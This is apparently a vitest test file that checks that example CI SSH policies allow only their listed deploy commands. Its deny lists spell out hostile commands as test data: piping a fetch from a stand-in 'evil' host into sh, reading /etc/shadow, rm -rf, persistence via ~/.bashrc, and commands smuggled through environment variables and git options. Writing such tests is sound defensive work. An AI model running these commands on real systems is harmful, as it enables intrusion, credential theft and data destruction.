/**
 * The CI example policies use SSH allow-lists (the boundary) with deny guard rails on top: the
 * deploy commands they list run, everything else — other commands, other arguments, extra options,
 * hidden code, persistence — is refused.
 */
import { describe, expect, it } from "vitest";
import { readFileSync } from "node:fs";
import { loadPolicy } from "../../parsers/policy/index.ts";
import { parseCommandLine } from "../../protocols/ssh/codec/shell/parse.ts";
import { githubClaims, gitlabClaims, identityOf } from "../../parsers/policy/test-fixtures.ts";
import type { SshRequest } from "../../protocols/ssh/policy/ssh.ts";

async function policyOf(file: string) {
  const loaded = await loadPolicy(readFileSync(file, "utf8"), file);
  if (!loaded.ok) throw new Error(JSON.stringify(loaded.errors));
  return loaded.policy;
}

const REFUSED_EVERYWHERE = [
  "cat /etc/shadow", "id", "bash", "rm -rf /srv/acme-api", "echo x >> ~/.bashrc", "sh -c 'curl evil | sh'", "python3 -c 'print(1)'", "$CMD", "bash /tmp/x.sh",
  "systemctl restart acme-api.service; curl -s http://evil/x | sh", "docker run --rm -v /:/h alpine rm -rf /h",
];

describe("CI example policies: SSH allow-lists", async () => {
  it("github-actions.yaml: the deploy job runs exactly its commands on web-prod", async () => {
    const policy = await policyOf("examples/policies/github-actions.yaml");
    const identity = identityOf(githubClaims());
    const resource = { name: "web-prod", type: "ssh", labels: {} };
    const exec = (line: string) => policy.decideSsh({ identity, resource, request: { kind: "exec", line: parseCommandLine(line) } }).effect;
    const req = (request: SshRequest) => policy.decideSsh({ identity, resource, request }).effect;
    for (const line of ["mkdir -p /srv/acme-api/releases/42", "tar -xzf /srv/acme-api/releases/42.tar.gz -C /srv/acme-api/releases/42", "ln -sfn /srv/acme-api/releases/42 /srv/acme-api/current", "systemctl restart acme-api.service && systemctl is-active acme-api.service", "curl -fsS http://127.0.0.1:8080/healthz", "ls -la /srv/acme-api/current", "ls -l -a /srv/acme-api/releases", "ls /srv/acme-api/current"]) {
      expect(exec(line), line).toBe("allow");
    }
    for (const line of [...REFUSED_EVERYWHERE, "systemctl restart sshd", "tar -xzf /tmp/x.tar.gz -C /", "ls -R /srv/acme-api", "ls -la /etc", "ls -la /srv/acme-api/../../etc", "curl -fsS http://evil/", "ln -sfn /srv/acme-api/releases/42 /srv/acme-api/current/.bashrc", "SYSTEMD_PAGER='sh -c id' systemctl restart acme-api.service", "X=1 systemctl restart acme-api.service", "LESSOPEN='|id' curl -fsS http://127.0.0.1:8080/healthz"]) {
      expect(exec(line), line).toBe("deny");
    }
    expect(req({ kind: "sftp", op: "write", paths: ["/srv/acme-api/releases/42.tar.gz"] })).toBe("allow");
    expect(req({ kind: "sftp", op: "write", paths: ["/srv/acme-api/releases/.bashrc"] })).toBe("deny");
    // A path below an extracted release may be a symbolic link the archive carried: no uploads there.
    expect(req({ kind: "sftp", op: "write", paths: ["/srv/acme-api/releases/42/app.js"] })).toBe("deny");
    // `releases/.` and `releases/` are releases itself, not a release folder: tar may not extract (symlinks) there.
    for (const line of ["tar -xzf /srv/acme-api/releases/a.tar.gz -C /srv/acme-api/releases/.", "tar -xzf /srv/acme-api/releases/a.tar.gz -C /srv/acme-api/releases/", "ln -sfn /srv/acme-api/releases/. /srv/acme-api/current"]) {
      expect(exec(line), line).toBe("deny");
    }
    expect(req({ kind: "sftp", op: "write", paths: ["/srv/acme-api/current"] })).toBe("deny");
    // A pull request is not the deploy job.
    const pr = identityOf(githubClaims({ event_name: "pull_request", ref: "refs/pull/1/merge", environment: undefined }));
    expect(policy.decideSsh({ identity: pr, resource, request: { kind: "exec", line: parseCommandLine("systemctl is-active acme-api.service") } }).effect).toBe("deny");
  });

  it("gitlab-ci.yaml: the deploy job runs exactly its commands on app-staging", async () => {
    const policy = await policyOf("examples/policies/gitlab-ci.yaml");
    const identity = identityOf(gitlabClaims());
    const resource = { name: "app-staging", type: "ssh", labels: {} };
    const exec = (line: string) => policy.decideSsh({ identity, resource, request: { kind: "exec", line: parseCommandLine(line) } }).effect;
    for (const line of ["systemctl restart acme-api-staging.service", "journalctl -u acme-api-staging.service -n 200 --no-pager", "git -C /srv/acme-api/checkout pull --ff-only", "git -C/srv/acme-api/checkout pull --ff-only"]) {
      expect(exec(line), line).toBe("allow");
    }
    for (const line of [...REFUSED_EVERYWHERE, "git -C /etc pull --ff-only", "git -C /srv/acme-api/checkout pull --ff-only --upload-pack=x", "git -c core.pager=sh -C /srv/acme-api/checkout pull --ff-only", "git -C /srv/acme-api/checkout pull origin evil", "docker compose -f /tmp/evil.yaml up -d", "journalctl -u acme-api-staging.service -n 200 --no-pager -o /tmp/x", "systemctl enable acme-api-staging.service"]) {
      expect(exec(line), line).toBe("deny");
    }
  });
});
